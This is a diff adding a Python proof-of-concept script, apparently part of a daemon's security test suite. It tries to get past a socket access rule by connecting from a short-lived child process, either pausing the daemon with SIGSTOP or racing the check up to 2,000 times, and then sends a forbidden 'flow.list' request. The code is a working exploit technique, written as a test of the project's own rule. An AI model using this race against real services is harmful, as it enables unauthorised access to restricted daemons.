@@ -1,0 +1,53 @@
+"""Escapes a rule that restricts a service, by a connection whose process has ended.
+
+    escape.py SOCKET [DAEMON]
+
+A child connects with a socket that it shares with its parent, and ends before the daemon looks at
+it. With the daemon's process number, for an attacker of the daemon's own user, the daemon is stopped
+meanwhile; without it the attack is a race, and is tried 2,000 times.
+"""
+
+import json
+import os
+import signal
+import socket
+import sys
+
+from attack import refused, succeeded
+
+path = sys.argv[1]
+daemon = int(sys.argv[2]) if len(sys.argv) > 2 else None
+
+
+def left_connection():
+    shared = socket.socket(socket.AF_UNIX)
+    shared.settimeout(10)
+    if daemon:
+        os.kill(daemon, signal.SIGSTOP)
+    try:
+        child = os.fork()
+        if child == 0:
+            try:
+                shared.connect(path)
+            finally:
+                os._exit(0)
+        os.waitpid(child, 0)
+    finally:
+        if daemon:
+            os.kill(daemon, signal.SIGCONT)
+    return shared
+
+
+last = "no reply"
+for attempt in range(1 if daemon else 2000):
+    with left_connection() as connection:
+        try:
+            # What the rule does not allow.
+            connection.sendall(b'{"jsonrpc":"2.0","id":1,"method":"flow.list"}\n')
+            reply = json.loads(connection.makefile().readline())
+        except (OSError, ValueError):
+            continue
+    if "result" in reply:
+        succeeded(f"the rule did not hold at attempt {attempt + 1}")
+    last = reply["error"]["data"]["reason"]
+refused(last)
